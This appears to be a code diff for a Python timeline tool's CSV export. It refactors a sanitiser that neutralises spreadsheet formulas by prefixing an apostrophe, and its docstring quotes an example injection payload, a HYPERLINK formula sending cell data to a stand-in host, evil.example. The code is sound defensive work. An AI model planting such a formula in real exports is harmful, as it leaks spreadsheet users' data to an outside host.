@@ -14,6 +14,7 @@ from typing import Any
 import click
 
 from timeline.events import event_type
+from timeline.texts import FORMULA_START
 
 FORMATS = ("text", "json")
 EVENT_FORMATS = ("text", "json", "csv")
@@ -147,15 +148,12 @@ def events_csv(events: Iterable[dict[str, Any]]) -> str:
     return buffer.getvalue()
 
 
-# What a spreadsheet takes for the start of a formula: a title from a feed such as
-# =HYPERLINK("http://evil.example/?"&A1) would run when the export is opened.
-_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
-
-
 def _inert(cell: str) -> str:
-    """A CSV cell that a spreadsheet shows as text: one that would start a formula gets
-    a leading apostrophe (OWASP's advice), which spreadsheets do not display."""
-    return "'" + cell if cell.startswith(_FORMULA_START) else cell
+    """A CSV cell that a spreadsheet shows as text: one that would start a formula (a
+    title from a feed such as =HYPERLINK("http://evil.example/?"&A1) would run when the
+    export is opened) gets a leading apostrophe, OWASP's advice, which spreadsheets do not
+    display."""
+    return "'" + cell if cell.startswith(FORMULA_START) else cell
 
 
 def _own_fields(event: dict[str, Any]) -> str:
